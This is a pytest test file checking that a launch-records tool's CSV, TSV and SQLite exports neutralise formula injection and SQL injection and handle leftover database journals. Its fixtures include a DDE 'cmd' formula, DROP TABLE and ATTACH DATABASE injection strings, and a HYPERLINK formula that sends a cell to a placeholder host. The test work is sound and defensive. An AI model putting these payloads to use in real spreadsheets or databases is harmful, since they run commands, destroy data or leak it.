"""Exports never execute anything: the formula guard (on by default, CSV and TSV, all six leading
characters, numbers untouched) and SQLite written with bound parameters (hostile text stored verbatim)."""

from __future__ import annotations

import csv
import io
import sqlite3

import pytest

from conftest import sample, write_record

STARTS = ["=", "+", "-", "@", "\t", "\r"]
# one free-text launch field per leading character
FIELDS = ["title", "summary", "name", "payload", "launch_site", "landing_area"]
HOSTILE = {
    "title": "=cmd|' /C calc'!A0",
    "summary": "'); DROP TABLE launch; --",
    "name": 'x"); DELETE FROM launch_observations; --',
    "payload": "Robert'); DROP TABLE timeline;--",
    "launch_site": "?; ATTACH DATABASE 'evil.db' AS evil; --",
    "landing_area": '=HYPERLINK("http://example.invalid/?"&A1)',
}


@pytest.fixture
def hostile(repo, run):
    cells = {name: f"{start}1+2 from {name}" for name, start in zip(FIELDS, STARTS)}
    write_record(repo, "launch", sample("launch", id="2023-08-30-formulas", count=3, **cells))
    write_record(repo, "launch", sample("launch", id="2023-08-31-sql", date="2023-08-31", **HOSTILE))
    assert run("validate").exit_code == 0  # the schema lets all of this through: the export must cope
    return cells


def rows(text: str, delimiter: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("fmt,delimiter", [("csv", ","), ("tsv", "\t")])
def test_formula_guard_is_on_by_default_for_every_leading_character(run, hostile, fmt, delimiter):
    result = run("export", "launches", "--format", fmt, "--where", "id=2023-08-30-formulas")
    assert result.exit_code == 0, result.output
    (row,) = rows(result.stdout, delimiter)
    for name, value in hostile.items():
        assert row[name] == "'" + value, name
    assert row["count"] == "3"  # numbers are never touched
    assert row["id"] == "2023-08-30-formulas" and row["date"] == "2023-08-30"


@pytest.mark.parametrize("fmt,delimiter", [("csv", ","), ("tsv", "\t")])
def test_guard_off_only_when_asked(run, hostile, fmt, delimiter):
    result = run("export", "launches", "--format", fmt, "--where", "id=2023-08-30-formulas", "--no-escape-formulas")
    (row,) = rows(result.stdout, delimiter)
    assert {name: row[name] for name in hostile} == hostile


def test_guard_applies_to_exploded_and_nested_columns_in_files(run, repo, hostile):
    record = sample(
        "launch",
        id="2023-09-01-nested",
        date="2023-09-01",
        observations=[{"actor": "=1+1", "actor_type": "other", "stance": "claim"}],
        tags=["@tag"],
    )
    write_record(repo, "launch", record)
    assert run("export", "launches", "--where", "id=2023-09-01-nested", "-o", "nested.csv").exit_code == 0
    (row,) = rows((repo / "nested.csv").read_text(encoding="utf-8"), ",")
    assert row["observations.actor"] == '["=1+1"]'  # a list cell is a JSON array: it starts with [, never a formula
    assert row["tags"] == '["@tag"]'
    exploded = run(
        "export", "launches", "--where", "id=2023-09-01-nested", "--explode", "observations", "--format", "tsv"
    )
    (row,) = rows(exploded.stdout, "\t")
    assert row["observations.actor"] == "'=1+1"


def test_sqlite_stores_hostile_text_verbatim(run, repo, hostile):
    result = run("export", "--format", "sqlite", "-o", "dprk.sqlite")
    assert result.exit_code == 0, result.output
    db = sqlite3.connect(repo / "dprk.sqlite")
    try:
        columns = ", ".join(HOSTILE)
        assert db.execute(f"SELECT {columns} FROM launch WHERE id = ?", ("2023-08-31-sql",)).fetchone() == tuple(
            HOSTILE.values()
        )
        formulas = db.execute(
            f"SELECT {', '.join(FIELDS)} FROM launch WHERE id = ?", ("2023-08-30-formulas",)
        ).fetchone()
        assert formulas == tuple(hostile.values())  # no guard in a database: the text as it is
        tables = {name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type IN ('table', 'view')")}
        assert {"launch", "launch_observations", "timeline"} <= tables
        assert db.execute("SELECT count(*) FROM launch").fetchone() == (2,)
        assert db.execute("PRAGMA database_list").fetchall()[1:] == []  # nothing attached
    finally:
        db.close()
    assert not (repo / "evil.db").exists()


@pytest.mark.parametrize("fmt,delimiter", [("csv", ","), ("tsv", "\t")])
def test_a_line_break_inside_a_cell_cannot_start_a_row(run, repo, fmt, delimiter):
    """A cell holding CR or LF is quoted, so `x<CR>=cmd()` stays one cell and never becomes a fresh, unguarded row."""
    write_record(
        repo,
        "launch",
        sample(
            "launch",
            id="2023-09-02-breaks",
            date="2023-09-02",
            name="ok\r=cmd|' /C calc'!A0",
            payload="ok\n@SUM(A1)",
            launch_site="ok\t+1",
        ),
    )
    result = run("export", "launches", "--format", fmt, "--where", "id=2023-09-02-breaks")
    assert result.exit_code == 0, result.output
    (row,) = rows(result.stdout, delimiter)
    assert (row["name"], row["payload"], row["launch_site"]) == ("ok\r=cmd|' /C calc'!A0", "ok\n@SUM(A1)", "ok\t+1")
    assert '"ok\r=cmd' in result.stdout and '"ok\n@SUM' in result.stdout  # quoted in the file itself


LEFT_BEHIND = """
import os, sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.execute("PRAGMA journal_mode=wal")
db.execute("PRAGMA wal_autocheckpoint=0")
db.execute("CREATE TABLE old_table (x)")
db.execute("INSERT INTO old_table VALUES ('old')")
db.commit()
os._exit(0)  # gone without a checkpoint: its write-ahead log stays beside it
"""


def test_sqlite_force_leaves_nothing_of_the_old_database_to_read_into_the_new_one(run, repo, hostile):
    import subprocess
    import sys

    target = repo / "dprk.sqlite"
    subprocess.run([sys.executable, "-c", LEFT_BEHIND, str(target)], check=True)
    assert (repo / "dprk.sqlite-wal").exists()
    result = run("export", "--format", "sqlite", "-o", "dprk.sqlite", "--force")
    assert result.exit_code == 0, result.output
    db = sqlite3.connect(target)
    try:
        tables = {name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert "launch" in tables and "old_table" not in tables
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    finally:
        db.close()


def test_sqlite_export_refuses_a_log_left_from_an_older_database_without_force(run, repo, hostile):
    (repo / "dprk.sqlite-journal").write_bytes(b"left by a database since removed")
    result = run("export", "--format", "sqlite", "-o", "dprk.sqlite")
    assert result.exit_code == 2 and "dprk.sqlite-journal" in result.stderr
    assert (
        not (repo / "dprk.sqlite").exists()
        and (repo / "dprk.sqlite-journal").read_bytes() == b"left by a database since removed"
    )
